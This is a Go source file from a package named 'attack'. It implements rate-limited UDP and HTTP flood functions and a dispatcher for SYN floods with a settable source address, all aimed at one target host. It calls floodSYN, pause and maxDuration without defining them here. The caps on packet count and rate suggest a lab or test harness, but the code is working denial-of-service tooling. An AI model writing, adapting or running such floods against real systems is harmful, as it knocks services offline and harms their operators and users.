package attack

import (
	"context"
	"fmt"
	"io"
	"math/rand/v2"
	"net"
	"net/netip"
	"sync"
	"sync/atomic"
	"time"
)

// Kinds of floods.
const (
	FloodUDP  = "udp"
	FloodSYN  = "syn"
	FloodHTTP = "http"
)

// FloodConfig says whom to flood, and how hard. All of it is bounded.
type FloodConfig struct {
	Kind     string         `json:"kind"`
	Seed     uint64         `json:"seed"`
	Source   netip.Addr     `json:"source"` // of SYN packets
	To       netip.AddrPort `json:"to"`
	Rate     int            `json:"rate"` // packets or requests a second
	Packets  int            `json:"packets"`
	Duration time.Duration  `json:"duration"`
}

// FloodResult tells what was sent.
type FloodResult struct {
	Sent     uint64    `json:"sent"`
	Answered uint64    `json:"answered"` // requests, of HTTP
	Refused  uint64    `json:"refused"`  // by the kernel, or by whoever is in between
	First    time.Time `json:"first"`
	Last     time.Time `json:"last"`
	Error    string    `json:"error,omitempty"`
}

const (
	maxFlood     = 60_000
	maxFloodRate = 20_000
)

func (c FloodConfig) check() error {
	if c.Kind != FloodUDP && c.Kind != FloodSYN && c.Kind != FloodHTTP {
		return fmt.Errorf("a flood is of %q, %q or %q, not of %q", FloodUDP, FloodSYN, FloodHTTP, c.Kind)
	}
	if !c.To.Addr().Is4() || c.Rate <= 0 || c.Rate > maxFloodRate || c.Packets <= 0 || c.Packets > maxFlood || c.Duration <= 0 || c.Duration > maxDuration {
		return fmt.Errorf("flood of %s with %d packets at %d a second for %s: out of bounds", c.To, c.Packets, c.Rate, c.Duration)
	}
	return nil
}

// Flood floods one host with datagrams, openings or requests, within bounds.
func Flood(ctx context.Context, c FloodConfig) (FloodResult, error) {
	if err := c.check(); err != nil {
		return FloodResult{}, err
	}
	ctx, cancel := context.WithTimeout(ctx, c.Duration)
	defer cancel()
	switch c.Kind {
	case FloodUDP:
		return floodUDP(ctx, c)
	case FloodSYN:
		return floodSYN(ctx, c)
	}
	return floodHTTP(ctx, c)
}

// paced calls send at the rate until the packets are spent or ctx ends.
func paced(ctx context.Context, c FloodConfig, r *FloodResult, send func() error) {
	r.First = time.Now()
	for due := r.First; r.Sent+r.Refused < uint64(c.Packets); due = due.Add(time.Second / time.Duration(c.Rate)) {
		if wait := time.Until(due); wait > time.Millisecond && !pause(ctx, wait) || ctx.Err() != nil {
			break
		}
		if err := send(); err != nil {
			r.Refused++
			r.Error = err.Error()
			continue
		}
		r.Sent++
	}
	r.Last = time.Now()
}

func floodUDP(ctx context.Context, c FloodConfig) (r FloodResult, err error) {
	conn, err := net.DialUDP("udp4", nil, net.UDPAddrFromAddrPort(c.To))
	if err != nil {
		return r, err
	}
	defer conn.Close()
	b := make([]byte, 64)
	rng := rand.New(rand.NewPCG(c.Seed, 0xf1))
	paced(ctx, c, &r, func() error {
		b[rng.IntN(len(b))] = byte(rng.Uint32())
		_, err := conn.Write(b)
		return err
	})
	return r, nil
}

// floodHTTP opens a connection a request, as a web flood does.
func floodHTTP(ctx context.Context, c FloodConfig) (r FloodResult, err error) {
	var wg sync.WaitGroup
	var answered atomic.Uint64
	slots := make(chan struct{}, 64)
	paced(ctx, c, &r, func() error {
		select {
		case slots <- struct{}{}:
		default:
			return fmt.Errorf("%d requests are not answered yet", cap(slots))
		}
		wg.Go(func() {
			defer func() { <-slots }()
			d := net.Dialer{Timeout: time.Second}
			conn, err := d.DialContext(ctx, "tcp4", c.To.String())
			if err != nil {
				return
			}
			defer conn.Close()
			_ = conn.SetDeadline(time.Now().Add(2 * time.Second))
			if _, err := io.WriteString(conn, "GET /?flood HTTP/1.0\r\nHost: "+c.To.Addr().String()+"\r\n\r\n"); err != nil {
				return
			}
			if n, _ := conn.Read(make([]byte, 16)); n > 0 {
				answered.Add(1)
			}
		})
		return nil
	})
	wg.Wait()
	r.Answered = answered.Load()
	return r, nil
}
